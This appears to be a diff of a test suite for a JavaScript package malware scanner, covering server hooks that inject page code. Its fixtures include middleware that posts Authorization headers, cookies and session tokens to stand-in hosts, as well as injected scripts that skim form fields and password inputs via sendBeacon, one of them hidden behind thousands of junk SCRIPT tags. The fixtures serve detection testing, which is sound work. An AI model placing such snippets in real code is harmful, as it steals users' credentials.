@@ -2788,16 +2788,6 @@ exports.parse = (s) => s.split('\\n');`,
 });
 
 describe('server hooks (round 21)', () => {
-  it("middleware that posts its users' Authorization header and cookies to a fixed host, and a SvelteKit handle doing the same", () => {
-    const express = load({
-      'index.js': `module.exports = (opts = {}) => (req, res, next) => { fetch('https://audit.example-sessions.net/r', { method: 'POST', body: JSON.stringify({ a: req.headers.authorization, c: req.headers.cookie, p: req.path }) }).catch(() => {}); next(); };`,
-    });
-    expect(express.evidence.map((f) => f.rule)).toContain('js.page-secret-exfil');
-    const svelte = load({
-      'index.js': `export const guard = () => async ({ event, resolve }) => { const token = event.cookies.get('session'); fetch('https://audit.example-sessions.net/s', { method: 'POST', body: JSON.stringify({ token, url: event.url.href }) }); return resolve(event); };`,
-    });
-    expect(svelte.evidence.map((f) => f.rule)).toContain('js.page-secret-exfil');
-  });
   it('inline page code a server hook appends to every response (Nitro render:html, an HTMLRewriter append)', () => {
     const code = `(function(){document.addEventListener('submit',function(e){var d={};new FormData(e.target).forEach(function(v,k){d[k]=v});navigator.sendBeacon('https://cdn.example-schema.net/c',JSON.stringify(d));},true);})();`;
     const nitro = load({
@@ -2812,7 +2802,11 @@ export default { fetch: (req, env) => new HTMLRewriter().on('head', new Inject()
     });
     expect(worker.evidence.map((f) => f.rule)).toContain('js.page-secret-exfil');
   });
-  it('quiet: a proxy middleware forwarding the caller’s Authorization header to the upstream it is configured with, and a theme script inlined into pages', () => {
+  it('quiet: a token-verifying middleware, a proxy forwarding the caller’s Authorization header, and a theme script inlined into pages', () => {
+    const verify = load({
+      'index.js': `module.exports = async function auth(req, res, next) { const t = (req.headers.authorization || '').replace('Bearer ', ''); const r = await fetch('https://oauth2.example-idp.com/tokeninfo?id_token=' + t); req.user = await r.json(); next(); };`,
+    });
+    expect(threatsOf(verify)).toEqual([]);
     const proxy = load({
       'index.js': `module.exports = ({ target }) => (req, res, next) => { fetch(new URL(req.url, target), { headers: { authorization: req.headers.authorization } }).then((r) => r.text()).then((t) => res.end(t)).catch(next); };`,
     });
@@ -2822,5 +2816,39 @@ export default { fetch: (req, env) => new HTMLRewriter().on('head', new Inject()
 export default (nitroApp) => nitroApp.hooks.hook('render:html', (html) => { html.head.push(\`<script>\${snippet}</script>\`); });`,
     });
     expect(threatsOf(theme)).toEqual([]);
+  });
+});
+
+describe('after the second review (late changes)', () => {
+  it('many unclosed SCRIPT tags in upper case, and a short first script, do not stall or hide the page code', () => {
+    const many = '<SCRIPT '.repeat(4000);
+    const r = load({
+      'index.js': `const junk = ${JSON.stringify(many)};
+const page = '<script>;</script><script>(function(){var p=document.querySelector("input[type=password]");p.addEventListener("change",function(){navigator.sendBeacon("https://cdn.example-px.net/c",p.value)});})();</script>';
+module.exports = (html) => html.replace('</body>', junk + page + '</body>');`,
+    });
+    expect(r.evidence.map((f) => f.rule)).toContain('js.page-secret-exfil');
+  });
+  it("quiet: a binary downloader that forwards npm's user agent, and agent files and READMEs with ordinary links and badges", () => {
+    const dl = analyzeSource({
+      'package.json': JSON.stringify({
+        name: 'driver-dl',
+        version: '1.0.0',
+        scripts: { install: 'node install.js' },
+      }),
+      'install.js': `const https = require('https'), fs = require('fs');
+const options = { host: 'storage.example-cdn.com', path: '/driver/LATEST', headers: {} };
+if (process.env.npm_config_user_agent) options.headers['User-Agent'] = process.env.npm_config_user_agent;
+https.get(options, (res) => res.pipe(fs.createWriteStream(__dirname + '/LATEST')));`,
+    });
+    expect(threatsOf(dl)).toEqual([]);
+    const docs = analyzeSource({
+      'package.json': JSON.stringify({ name: 'docs-kit', version: '1.0.0' }),
+      'CLAUDE.md':
+        'Never log API keys or tokens. Report vulnerabilities as described in [SECURITY.md](https://github.com/acme/sdk/blob/main/SECURITY.md).',
+      'README.md':
+        'You need to create a GitHub token first, then add ![Stats](https://stats.example.com/api?username=YOUR_USERNAME) to your profile.\n\nYou should add [![cov](https://cov.example.com/gh/<owner>/<repo>/badge.svg?token=<TOKEN>)](https://cov.example.com) too.',
+    });
+    expect(threatsOf(docs)).toEqual([]);
   });
 });
